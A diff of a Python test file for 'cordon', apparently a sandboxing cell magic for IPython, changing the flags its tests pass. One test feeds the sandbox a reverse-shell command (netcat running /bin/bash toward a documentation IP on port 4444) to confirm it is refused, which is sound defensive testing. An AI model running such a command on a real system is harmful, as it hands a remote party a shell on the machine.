@@ -25,7 +25,7 @@ class Magic(Case):
 
     def cell(self, code, line=""):
         with capture_output() as seen:
-            self.shell.run_cell_magic("cordon", f"--tier {TIER} --origin user {line}", code)
+            self.shell.run_cell_magic("cordon", f"--tier {TIER} --user {line}", code)
         return seen
 
     def test_text(self):
@@ -56,7 +56,7 @@ class Magic(Case):
 
     def test_errors(self):
         """refusals, limits and wrong words are told in Cordon's words"""
-        self.assertIn("CORDON-2026-0001", self.cell("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')", "--ask=host").stderr)
+        self.assertIn("CORDON-2026-0001", self.cell("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')", "--exposed").stderr)
         self.assertIn("time", self.cell("while True: pass", "--time 300ms").stderr)
         self.assertIn("is no option", self.cell("1", "nonsense").stderr)
         self.assertIn("cordon: ", self.cell("1 +").stderr)
